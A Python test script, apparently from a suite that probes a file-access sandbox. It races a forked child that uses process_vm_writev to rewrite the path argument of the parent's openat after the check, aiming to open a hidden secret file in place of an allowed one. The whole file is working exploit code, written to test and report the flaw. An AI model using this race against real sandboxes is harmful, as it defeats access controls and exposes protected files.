"""A child rewrites the path of its parent's open by process_vm_writev."""

import ctypes
import os
import struct

from attack import WORK, call, main, read
from race import Race, until_won

PROMISE = "the path that was judged is the path that is used, however it is written"
CONTROL = "the open gives the decoy"
ADVICE = "report it: arguments are copied once"


def attempt() -> bool:
    race = Race(f"{WORK}/hide1/secret", f"{WORK}/hide0/secret")
    parent = os.getpid()
    child = os.fork()
    if child == 0:
        try:
            texts = [ctypes.create_string_buffer(text) for text in (race.bad, race.good)]
            there = struct.pack("=QQ", race.address, len(race.bad))
            here = [struct.pack("=QQ", ctypes.addressof(text), len(race.bad)) for text in texts]
            while True:
                for vector in here:
                    call("process_vm_writev", parent, vector, 1, there, 1, 0)
        finally:
            os._exit(1)
    try:
        return until_won(lambda: read(call("openat", -100, race.memory_pointer(), 0)))
    finally:
        os.kill(child, 9)


main(attempt, needs="the right to write another process's memory")
